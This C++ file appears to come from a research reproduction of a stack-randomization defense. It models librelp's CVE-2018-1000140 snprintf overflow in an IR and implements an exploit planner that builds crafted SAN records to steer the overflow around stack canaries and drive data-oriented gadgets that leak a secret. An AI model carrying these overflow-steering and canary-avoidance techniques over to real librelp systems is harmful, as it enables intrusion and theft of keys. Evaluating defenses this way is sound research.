//===- apps/Librelp.cpp - librelp CVE-2018-1000140 model -------------------===//
//
// Part of the Smokestack reproduction. MIT license.
//
//===----------------------------------------------------------------------===//

#include "apps/Librelp.h"

#include "attacks/Attacker.h"
#include "ir/IRBuilder.h"

#include <algorithm>
#include <iterator>
#include <optional>

using namespace smokestack;

namespace {

/// chkPeerName: the vulnerable SAN-accumulation loop.
///
///   while (!bFound) {
///     len = get_input_n(szAltName, 127);      // bounded SAN fetch
///     if (len == 0) break;                    // no more SANs
///     r = snprintf(allNames + iAllNames, 1024 - iAllNames,
///                  "DNSname: %s; ", szAltName);
///     iAllNames += r;                         // C99 would-be length!
///   }
void buildChkPeerName(Module &M) {
  IRBuilder B(M);
  Function *GetInputN =
      M.getOrInsertDeclaration("get_input_n", B.i64(), {B.ptr(), B.i64()});
  Function *Memset =
      M.getOrInsertDeclaration("memset", B.ptr(), {B.ptr(), B.i32(), B.i64()});
  Function *Snprintf = M.getOrInsertDeclaration(
      "snprintf", B.i64(), {B.ptr(), B.i64(), B.ptr()}, /*IsVarArg=*/true);
  GlobalVariable *Fmt = M.createGlobal(
      "fmt.dnsname", B.getContext().getArrayTy(B.i8(), 16),
      {'D', 'N', 'S', 'n', 'a', 'm', 'e', ':', ' ', '%', 's', ';', ' ', 0},
      /*ReadOnly=*/true);

  Function *F = M.createFunction("relpTcpChkPeerName", B.voidTy(), {});
  BasicBlock *Entry = F->createBlock("entry");
  BasicBlock *Loop = F->createBlock("loop");
  BasicBlock *Body = F->createBlock("body");
  BasicBlock *Exit = F->createBlock("exit");

  B.setInsertPoint(Entry);
  // allNames is declared first so it sits at the top of the frame on the
  // baseline layout: the overflow runs straight from its end into the
  // caller's frame, as in the published exploit.
  AllocaInst *AllNames =
      B.alloca_(B.getContext().getArrayTy(B.i8(), 1024), "allNames");
  AllocaInst *SzAltName =
      B.alloca_(B.getContext().getArrayTy(B.i8(), 128), "szAltName");
  AllocaInst *IAllNames = B.alloca_(B.i64(), "iAllNames");
  AllocaInst *BFound = B.alloca_(B.i64(), "bFound");
  B.store(B.constI64(0), BFound);
  B.store(B.constI64(0), IAllNames);
  B.call(Memset, {SzAltName, B.constI32(0), B.constI64(128)});
  B.br(Loop);

  B.setInsertPoint(Loop);
  B.condBr(B.icmp(ICmpInst::Predicate::EQ, B.load(B.i64(), BFound),
                  B.constI64(0)),
           Body, Exit);

  B.setInsertPoint(Body);
  B.call(Memset, {SzAltName, B.constI32(0), B.constI64(128)});
  Value *Len = B.call(GetInputN, {SzAltName, B.constI64(127)}, "sanlen");
  BasicBlock *Have = F->createBlock("have");
  B.condBr(B.icmp(ICmpInst::Predicate::EQ, Len, B.constI64(0)), Exit, Have);

  B.setInsertPoint(Have);
  Value *Cursor = B.load(B.i64(), IAllNames, "cursor");
  Value *Dst = B.gep(AllNames, Cursor, 1, 0, "dst");
  // sizeof(allNames) - iAllNames: underflows to a huge size_t once the
  // cursor passed 1024 — the CVE.
  Value *Space = B.sub(B.constI64(1024), Cursor, "space");
  Value *Written = B.call(Snprintf, {Dst, Space, Fmt, SzAltName}, "written");
  B.store(B.add(Cursor, Written), IAllNames);
  // relpTcpChkOnePeerName(): modeled as never matching (bFound stays 0).
  B.br(Loop);

  B.setInsertPoint(Exit);
  B.ret();
}

/// relpTcpLstnInit: the caller holding the DOP dispatcher and gadgets.
///
/// Locals (declaration order = baseline top-to-bottom): dummyTop, out, val,
/// padA, op, padB, idx, padC, ctr, padD. Byte-wide op/idx/ctr with padding
/// around them so the exploit's "DNSname: " prefixes and "; " tails land in
/// padding.
///
/// Dispatcher: while (ctr != 4) { chkPeerName(); gadget(op); ctr++; }
/// Gadgets: op==1 DEREFERENCE (val = *ptrTable[idx]); op==2 MOV (out=val).
void buildLstnInit(Module &M) {
  IRBuilder B(M);
  Function *Chk = M.getFunction("relpTcpChkPeerName");
  GlobalVariable *Secret = M.createGlobal(
      "g_secret", B.i64(),
      {0x31, 0x54, 0x45, 0x52, 0x43, 0x45, 0x53, 0x00}); // LibrelpSecret LE
  GlobalVariable *PtrTable = M.createGlobal(
      "g_ptrtable", B.getContext().getArrayTy(B.i64(), 8));
  GlobalVariable *Scratch = M.createGlobal("g_scratch", B.i64());

  Function *F = M.createFunction("relpTcpLstnInit", B.i64(), {});
  BasicBlock *Entry = F->createBlock("entry");
  BasicBlock *Loop = F->createBlock("loop");
  BasicBlock *Body = F->createBlock("body");
  BasicBlock *Chk2 = F->createBlock("chk2");
  BasicBlock *GDeref = F->createBlock("g_deref");
  BasicBlock *GMov = F->createBlock("g_mov");
  BasicBlock *Latch = F->createBlock("latch");
  BasicBlock *Exit = F->createBlock("exit");

  B.setInsertPoint(Entry);
  AllocaInst *DummyTop =
      B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "dummyTop");
  AllocaInst *Out = B.alloca_(B.i64(), "out");
  AllocaInst *Val = B.alloca_(B.i64(), "val");
  AllocaInst *PadA = B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "padA");
  AllocaInst *Op = B.alloca_(B.i8(), "op");
  AllocaInst *PadB = B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "padB");
  AllocaInst *Idx = B.alloca_(B.i8(), "idx");
  AllocaInst *PadC = B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "padC");
  AllocaInst *Ctr = B.alloca_(B.i8(), "ctr");
  AllocaInst *PadD = B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "padD");

  B.store(B.constI8(0), B.gepConst(DummyTop, 0));
  B.store(B.constI64(0), Out);
  B.store(B.constI64(0), Val);
  B.store(B.constI8(0), B.gepConst(PadA, 0));
  B.store(B.constI8(0), Op);
  B.store(B.constI8(0), B.gepConst(PadB, 0));
  B.store(B.constI8(0), Idx);
  B.store(B.constI8(0), B.gepConst(PadC, 0));
  B.store(B.constI8(0), Ctr);
  B.store(B.constI8(0), B.gepConst(PadD, 0));

  // Program's own pointer table: entry 3 points at the OpenSSL-key-like
  // secret, the rest at scratch.
  Value *SecretAddr = B.cast_(CastInst::CastOp::PtrToInt, B.i64(), Secret);
  Value *ScratchAddr = B.cast_(CastInst::CastOp::PtrToInt, B.i64(), Scratch);
  for (int I = 0; I != 8; ++I)
    B.store(I == 3 ? SecretAddr : ScratchAddr,
            B.gepConst(PtrTable, 8 * I));
  B.br(Loop);

  B.setInsertPoint(Loop);
  B.condBr(B.icmp(ICmpInst::Predicate::NE, B.load(B.i8(), Ctr),
                  B.constI8(4)),
           Body, Exit);

  B.setInsertPoint(Body);
  B.call(Chk, {});
  Value *OpV = B.load(B.i8(), Op, "opv");
  B.condBr(B.icmp(ICmpInst::Predicate::EQ, OpV, B.constI8(1)), GDeref, Chk2);
  B.setInsertPoint(Chk2);
  B.condBr(B.icmp(ICmpInst::Predicate::EQ, OpV, B.constI8(2)), GMov, Latch);

  B.setInsertPoint(GDeref); // val = *ptrTable[idx & 7]
  Value *IdxV = B.and_(B.zext(B.i64(), B.load(B.i8(), Idx)), B.constI64(7));
  Value *Entry3 = B.gep(PtrTable, IdxV, 8, 0, "tslot");
  Value *Ptr = B.cast_(CastInst::CastOp::IntToPtr, B.ptr(),
                       B.load(B.i64(), Entry3));
  B.store(B.load(B.i64(), Ptr), Val);
  B.br(Latch);

  B.setInsertPoint(GMov); // out = val
  B.store(B.load(B.i64(), Val), Out);
  B.br(Latch);

  B.setInsertPoint(Latch);
  B.store(B.add(B.load(B.i8(), Ctr), B.constI8(1)), Ctr);
  B.br(Loop);

  B.setInsertPoint(Exit);
  B.ret(B.load(B.i64(), Out));
}

/// A half-open byte interval [Lo, Hi) of offsets (relative to allNames)
/// that the overflow must not touch: the cursor variable itself, loop
/// flags, canaries — clobbering any of them derails or aborts the exploit.
struct Critical {
  int64_t Lo;
  int64_t Hi;
};

bool hitsCritical(const std::vector<Critical> &Criticals, int64_t Lo,
                  int64_t Hi) {
  for (const Critical &C : Criticals)
    if (Lo < C.Hi && C.Lo < Hi)
      return true;
  return false;
}

/// Plans the inflating SANs that drive the cursor from 0 to exactly \p W,
/// keeping every unbounded write clear of the criticals. Writes issued
/// while the cursor is below 1024 are clipped at the buffer end and are
/// inherently safe; from 1025 upward each write covers its full formatted
/// length.
std::optional<std::vector<std::vector<uint8_t>>>
planCursorPath(int64_t From, int64_t To,
               const std::vector<Critical> &Criticals) {
  constexpr int64_t BufSize = 1024;
  constexpr int64_t MaxStep = 127 + 11;
  constexpr int64_t MinStep = 1 + 11;
  if (From == To)
    return std::vector<std::vector<uint8_t>>{};
  if (To - From < MinStep)
    return std::nullopt;

  // Breadth-first search over cursor positions: edge c -> c+s (one SAN of
  // length s-11) exists when the resulting write is clipped (c < 1024),
  // writes nothing (c == 1024), or misses every critical. BFS finds the
  // fewest SANs.
  size_t Span = static_cast<size_t>(To - From);
  std::vector<int64_t> Pred(Span + 1, -1);
  std::vector<int64_t> Queue;
  Pred[0] = 0;
  Queue.push_back(From);
  for (size_t Head = 0; Head != Queue.size() && Pred[Span] < 0; ++Head) {
    int64_t C = Queue[Head];
    bool Harmless = C <= BufSize; // clipped (or zero-length) write
    for (int64_t Step = MinStep; Step <= MaxStep; ++Step) {
      int64_t Next = C + Step;
      if (Next > To || Pred[Next - From] >= 0)
        continue;
      if (!Harmless && hitsCritical(Criticals, C, C + Step + 1))
        break; // longer SANs only widen the same colliding write
      Pred[Next - From] = C;
      Queue.push_back(Next);
    }
  }
  if (Pred[Span] < 0)
    return std::nullopt;

  std::vector<int64_t> Path;
  for (int64_t C = To; C != From; C = Pred[C - From])
    Path.push_back(C);
  std::vector<std::vector<uint8_t>> Records;
  int64_t Prev = From;
  for (auto It = Path.rbegin(); It != Path.rend(); ++It) {
    Records.emplace_back(static_cast<size_t>(*It - Prev - 11), 'A');
    Prev = *It;
  }
  return Records;
}

/// One precise byte write: (offset-from-allNames, value).
struct ByteWrite {
  int64_t Target;
  uint8_t Value;
};

/// A contiguous attacker-controlled byte span (targets merged with 'A'
/// filler between them).
struct SpanWrite {
  int64_t Start = 0;
  std::vector<uint8_t> Bytes;
};

/// Groups ascending byte writes into spans short enough for one SAN.
std::vector<SpanWrite> groupSpans(std::vector<ByteWrite> Writes) {
  std::sort(Writes.begin(), Writes.end(),
            [](const ByteWrite &A, const ByteWrite &B) {
              return A.Target < B.Target;
            });
  std::vector<SpanWrite> Spans;
  for (const ByteWrite &Write : Writes) {
    if (Spans.empty() || Write.Target - Spans.back().Start > 117) {
      Spans.push_back({Write.Target, {Write.Value}});
      continue;
    }
    SpanWrite &Span = Spans.back();
    Span.Bytes.resize(static_cast<size_t>(Write.Target - Span.Start) + 1,
                      'A');
    Span.Bytes.back() = Write.Value;
  }
  return Spans;
}

/// Plans one chkPeerName call performing every write in \p Writes,
/// steering all unbounded output around the criticals. Nearby targets are
/// merged into one SAN (its bytes are all attacker-chosen and NUL-free);
/// a sliding amount of leading filler gives freedom to move the 9-byte
/// "DNSname: " prefix off criticals below a span. The "; " + NUL tail is
/// fixed 3 bytes above each span's end.
std::optional<std::vector<std::vector<uint8_t>>>
planWriteRound(std::vector<ByteWrite> Writes,
               const std::vector<Critical> &Criticals) {
  std::vector<std::vector<uint8_t>> Records;
  int64_t Cursor = 0;
  for (const SpanWrite &Span : groupSpans(std::move(Writes))) {
    int64_t L = static_cast<int64_t>(Span.Bytes.size());
    bool Planned = false;
    for (int64_t J = 0; J + L <= 127 && !Planned; ++J) {
      int64_t W = Span.Start - 9 - J; // cursor for the payload SAN
      if (W <= 1024 || W < Cursor)
        break; // clipped, or the cursor has already passed it
      // Window: prefix [W, W+9), filler+content, tail+NUL ends at
      // Span.Start + L + 3.
      if (hitsCritical(Criticals, W, Span.Start + L + 3))
        continue;
      auto Inflate = planCursorPath(Cursor, W, Criticals);
      if (!Inflate)
        continue;
      for (auto &R : *Inflate)
        Records.push_back(std::move(R));
      std::vector<uint8_t> PayloadSan(static_cast<size_t>(J), 'A');
      PayloadSan.insert(PayloadSan.end(), Span.Bytes.begin(),
                        Span.Bytes.end());
      Records.push_back(std::move(PayloadSan));
      Cursor = W + 9 + J + L + 2; // past prefix, SAN, and "; "
      Planned = true;
    }
    if (!Planned)
      return std::nullopt;
  }
  Records.push_back({}); // end of SANs for this chkPeerName call
  return Records;
}

/// Lowers the exfiltration against the disclosed layout: two planned write
/// rounds, then empty SAN streams until the dispatcher counter exits.
std::optional<Exploit> lowerExploit(const LayoutOracle &Oracle) {
  if (!Oracle.knows("relpTcpChkPeerName", "allNames") ||
      !Oracle.knows("relpTcpLstnInit", "op") ||
      !Oracle.knows("relpTcpLstnInit", "idx"))
    return std::nullopt;
  int64_t Base = static_cast<int64_t>(
      Oracle.addressOf("relpTcpChkPeerName", "allNames"));
  auto Offset = [&](const char *Func, const char *Var) {
    return static_cast<int64_t>(Oracle.addressOf(Func, Var)) - Base;
  };

  // Criticals: the callee's own control state and both functions' guard
  // words (the attacker knows their positions from the same probe and
  // steers the non-linear writes around them — the canary jump).
  // The criticals are time-phased: `val` only matters once the DEREFERENCE
  // gadget has loaded the secret into it (round 2), and `out` only after
  // the final MOV — at which point no further writes happen. bFound and the
  // guard words are critical throughout.
  std::vector<Critical> Round1Criticals, Round2Criticals;
  auto AddCritical = [&](std::vector<Critical> &Into, const char *Func,
                         const char *Var) {
    if (Oracle.knows(Func, Var)) {
      int64_t Lo = Offset(Func, Var);
      Into.push_back({Lo, Lo + 8});
    }
  };
  for (auto *Set : {&Round1Criticals, &Round2Criticals}) {
    AddCritical(*Set, "relpTcpChkPeerName", "bFound");
    AddCritical(*Set, "relpTcpChkPeerName", "__canary");
    AddCritical(*Set, "relpTcpLstnInit", "__canary");
  }
  AddCritical(Round2Criticals, "relpTcpLstnInit", "val");

  int64_t OffOp = Offset("relpTcpLstnInit", "op");
  int64_t OffIdx = Offset("relpTcpLstnInit", "idx");

  // Dispatcher schedule (ctr wraps modulo 256 until it equals 4; the
  // 'A'-spray each round leaves on ctr merely stretches the loop):
  //   round 1 plants op=1 and idx=3 together, so that iteration's
  //   DEREFERENCE gadget loads the secret into val;
  //   round 2 re-arms op=2 (the spray of its own inflation re-junks idx,
  //   which MOV ignores) so out = val;
  //   then empty SAN streams until the dispatcher counter exits.
  auto R1 = planWriteRound({{OffOp, 1}, {OffIdx, 3}}, Round1Criticals);
  auto R2 = planWriteRound({{OffOp, 2}}, Round2Criticals);
  if (!R1 || !R2)
    return std::nullopt; // no overflow plan avoids the critical data
  Exploit E{std::move(*R1), returns(LibrelpSecret)};
  E.Records.insert(E.Records.end(), std::make_move_iterator(R2->begin()),
                   std::make_move_iterator(R2->end()));
  E.Records.resize(E.Records.size() + 300); // empty SANs: spin the loop out
  return E;
}

} // namespace

void smokestack::buildLibrelpModule(Module &M) {
  buildChkPeerName(M);
  buildLstnInit(M);
}

AttackReport smokestack::runLibrelpExploit(const ScenarioConfig &Config) {
  Module M("librelp");
  buildLibrelpModule(M);
  DeployedDefense Deployed = deployDefense(M, Config.Defense, Config.BuildSeed);
  return runCampaign(M, Deployed, Config.Rng, "relpTcpLstnInit", Config.Budget,
                     lowerExploit);
}
